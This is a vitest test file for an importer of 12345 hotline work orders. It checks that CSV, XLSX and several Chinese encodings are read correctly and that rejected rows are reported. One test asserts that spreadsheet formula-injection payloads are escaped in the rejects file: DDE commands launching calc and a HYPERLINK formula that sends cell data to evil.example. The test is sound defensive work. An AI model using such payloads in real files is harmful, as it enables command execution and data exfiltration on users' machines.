import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import iconv from 'iconv-lite';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { count, eq, isNotNull, like } from 'drizzle-orm';
import { seedReference, type DatabaseHandle } from '@gongzhi/db';
import type { IntakeContext } from '@gongzhi/api/use-cases';
import { cases } from '@gongzhi/db/schema';
import { testTargets } from '@gongzhi/db/testing';
import { ManualClock } from '@gongzhi/domain';
import { loadAlliance } from '@gongzhi/geo';
import { defaultClassifier } from '@gongzhi/nlp';
import { generateExport, writeCsv, writeXlsx } from './generate-orders.ts';
import { importOrders } from './hotline-import.ts';

const alliance = loadAlliance();
const dir = mkdtempSync(join(tmpdir(), 'gongzhi-import-'));
// Enough rows for every kind of defect (every 50th row has one, the five kinds in turn) and ten
// batches; the 10,000- and 100,000-row runs are bench/import.bench.ts (a test proves the property,
// a benchmark measures the speed).
const ROWS = 250;
const BATCH = 25;

describe.each(testTargets())('12345 import on $name', (target) => {
  let handle: DatabaseHandle;
  const clock = new ManualClock('2026-11-27T08:00:00Z');
  const deps = (): IntakeContext => ({ db: handle.db, clock, alliance, classifier: defaultClassifier() });
  const stored = async (prefix: string) =>
    (
      await handle.db
        .select({ n: count() })
        .from(cases)
        .where(like(cases.externalRef, `12345:${prefix}%`))
    )[0]!.n;

  beforeAll(async () => {
    handle = await target.open();
    await seedReference(handle.db, alliance, clock.now());
  });
  afterAll(async () => {
    await handle?.close();
  });

  it(`imports ${ROWS.toLocaleString('en')} rows with deliberate bad rows exactly, and a second run adds nothing`, async () => {
    const data = generateExport(alliance, ROWS);
    const file = join(dir, `orders-${target.name}.csv`);
    writeCsv(file, data);
    const bad = Object.values(data.defects).reduce((a, b) => a + b, 0);
    expect(bad).toBe(ROWS / 50);
    const fractions: number[] = [];
    const first = await importOrders({
      file,
      deps: deps(),
      reportedIn: '510100',
      rejectsPath: `${file}.rejects.csv`,
      batchSize: BATCH,
      onProgress: (p) => fractions.push(p.fraction),
    });
    expect(first.read).toBe(ROWS);
    expect(first.rejected).toBe(bad);
    expect(first.imported).toBe(ROWS - bad);
    expect(first.imported + first.rejected).toBe(first.read);
    expect(first.alreadyImported).toBe(0);
    expect(first.triaged + first.classified).toBeGreaterThan(0);
    expect(fractions.at(-1)).toBe(1);
    expect(await stored('GD')).toBe(ROWS - bad);
    console.log(
      `[import ${target.name}] ${ROWS} rows in ${first.seconds.toFixed(1)} s = ${Math.round(ROWS / first.seconds)} rows/s; classified ${first.classified}, triaged ${first.triaged}, repeats ${first.repeats}`,
    );

    // The rejects file names every row not taken and why.
    const rejects = parse(readFileSync(`${file}.rejects.csv`), { bom: true }) as string[][];
    expect(rejects).toHaveLength(bad + 1);
    const reasons = rejects.slice(1).map((row) => row[2]!);
    expect(reasons.filter((r) => r === '诉求内容为空')).toHaveLength(data.defects['no-description']);
    expect(reasons.filter((r) => r.startsWith('受理时间'))).toHaveLength(data.defects['bad-time']);
    expect(reasons.filter((r) => r.includes('不在成都、德阳、眉山、资阳四市范围内'))).toHaveLength(data.defects.outside);
    expect(reasons.filter((r) => r.startsWith('工单编号与本文件第'))).toHaveLength(data.defects.duplicate);
    expect(reasons.filter((r) => r.includes('没有可识别的区县'))).toHaveLength(data.defects['no-place']);

    const second = await importOrders({ file, deps: deps(), reportedIn: '510100', rejectsPath: `${file}.again.csv`, batchSize: BATCH });
    expect(second).toMatchObject({ read: ROWS, imported: 0, rejected: ROWS, alreadyImported: ROWS - bad });
    expect(await stored('GD')).toBe(ROWS - bad);
    const [withTime] = await handle.db.select().from(cases).where(eq(cases.externalRef, '12345:GD00000001'));
    expect(withTime!.reportedAt).not.toBeNull();
  });

  it('reads an XLSX export the same way', async () => {
    const data = generateExport(alliance, 120, 7, 'XL');
    const file = join(dir, `orders-${target.name}.xlsx`);
    await writeXlsx(file, data);
    const report = await importOrders({ file, deps: deps(), reportedIn: '510100', rejectsPath: `${file}.rejects.csv` });
    expect(report).toMatchObject({ read: 120, imported: 118, rejected: 2 });
    expect(await stored('XL')).toBe(118);
    expect((await handle.db.select({ n: count() }).from(cases).where(isNotNull(cases.repeatOf)))[0]!.n).toBeGreaterThanOrEqual(0);
  });

  it('reads a GBK export as many 12345 systems write it, and no formula of a rejected row reaches the rejects file as written', async () => {
    const file = fileURLToPath(new URL('./fixtures/orders-gbk.csv', import.meta.url));
    const rejectsPath = join(dir, `gbk-${target.name}.rejects.csv`);
    const report = await importOrders({ file, deps: deps(), reportedIn: '510100', rejectsPath });
    expect(report).toMatchObject({ read: 6, imported: 2, rejected: 4 });
    const [first] = await handle.db.select().from(cases).where(eq(cases.externalRef, '12345:GBK0001'));
    expect(first).toMatchObject({ description: '市民来电反映:春熙路的垃圾桶满了三天没人清运', address: '成都市锦江区春熙路88号', reporterName: '王先生' });

    const rejects = parse(readFileSync(rejectsPath), { bom: true, relax_column_count: true }) as string[][];
    const row = (orderNo: string) => rejects.find((r) => r[1] === orderNo) ?? [];
    // columns: row, order_no, reason, then the file's own: order_no, time, description, address, lon, lat, category, name, phone
    expect(row('GBK0003')[5]).toBe("'=cmd|' /C calc'!A0");
    expect(row('GBK0004')[5]).toBe(`'=HYPERLINK("http://evil.example/?d="&A1,"点这里查看")`);
    expect(row('GBK0005')[10]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(row('GBK0005')[11]).toBe("'+1+1");
    expect(row('GBK0006')[4]).toBe("'\t下午三点");
    expect(row('GBK0006')[5]).toBe("'-2+3+cmd|' /C calc'!A0");
    // No cell of the file, header included, starts as a formula would.
    for (const cell of rejects.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('reads UTF-8 without a BOM and GB18030 beyond GBK; refuses another encoding by name, storing nothing', async () => {
    const text = (prefix: string, name: string) =>
      `工单编号,受理时间,诉求内容,事发地址,经度,纬度,来电人\r\n${prefix}1,2026-11-21 09:15,建设路的垃圾桶满了,成都市成华区建设路5号,104.105000,30.670000,${name}\r\n`;
    const plain = join(dir, 'utf8-no-bom.csv');
    writeFileSync(plain, text('U8N', '李女士'));
    expect(await importOrders({ file: plain, deps: deps(), reportedIn: '510100', rejectsPath: `${plain}.rejects.csv` })).toMatchObject({ imported: 1 });
    const wide = join(dir, 'gb18030.csv');
    writeFileSync(wide, iconv.encode(text('G18', '𠮷先生'), 'gb18030'));
    expect(await importOrders({ file: wide, deps: deps(), reportedIn: '510100', rejectsPath: `${wide}.rejects.csv` })).toMatchObject({ imported: 1 });
    expect((await handle.db.select().from(cases).where(eq(cases.externalRef, '12345:G181')))[0]?.reporterName).toBe('𠮷先生');

    const utf16 = join(dir, 'utf16.csv');
    writeFileSync(utf16, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text('U16', '王先生'), 'utf16le')]));
    await expect(importOrders({ file: utf16, deps: deps(), reportedIn: '510100', rejectsPath: `${utf16}.rejects.csv` })).rejects.toThrow(/文件编码是 UTF-16LE/);
    const big5 = join(dir, 'big5.csv');
    writeFileSync(
      big5,
      iconv.encode(
        '工單編號,受理時間,訴求內容,事發地址\r\nB51,2026-11-21 09:15,市民來電反映:春熙路的垃圾桶滿了三天沒人清運,成都市錦江區春熙路88號\r\n',
        'big5',
      ),
    );
    await expect(importOrders({ file: big5, deps: deps(), reportedIn: '510100', rejectsPath: `${big5}.rejects.csv` })).rejects.toThrow(/文件编码是 Big5/);
    // Valid UTF-8 at the start, then bytes that are not: stopped with a message, not read as mojibake.
    const mixed = join(dir, 'mixed.csv');
    writeFileSync(mixed, Buffer.concat([Buffer.from(text('MIX', '王先生')), Buffer.alloc(70_000, 0x61), iconv.encode('张先生\r\n', 'gbk')]));
    await expect(importOrders({ file: mixed, deps: deps(), reportedIn: '510100', rejectsPath: `${mixed}.rejects.csv` })).rejects.toThrow(/不是有效的 UTF-8/);
    expect(await stored('U16')).toBe(0);
    expect(await stored('B51')).toBe(0);
  });

  it('refuses a file without the needed columns, in Chinese, storing nothing', async () => {
    const file = join(dir, 'bad.csv');
    writeCsv(file, { header: ['编号', '内容'], rows: [['1', 'x']], defects: { 'no-description': 0, 'bad-time': 0, outside: 0, duplicate: 0, 'no-place': 0 } });
    await expect(importOrders({ file, deps: deps(), reportedIn: '510100', rejectsPath: `${file}.rejects.csv` })).rejects.toThrow(
      /^表头缺少列:受理时间 \(time\)/,
    );
  });
});

afterAll(() => (process.env.KEEP_IMPORT_FILES ? undefined : rmSync(dir, { recursive: true, force: true })));
